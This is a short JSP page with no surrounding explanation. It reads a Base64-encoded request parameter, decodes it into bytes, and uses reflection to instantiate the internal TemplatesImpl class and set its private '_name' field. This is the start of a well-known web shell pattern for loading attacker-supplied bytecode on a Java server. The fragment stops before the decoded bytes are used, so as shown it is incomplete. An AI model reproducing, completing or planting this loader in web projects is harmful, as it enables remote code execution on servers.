<%@ page import="java.lang.reflect.*" %>
<%
	byte[] bytes = java.util.Base64.getDecoder().decode(request.getParameter("b"));
	Object t = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").newInstance();
	Field f = t.getClass().getDeclaredField("_name");
	f.setAccessible(true);
	f.set(t, "n");
%>
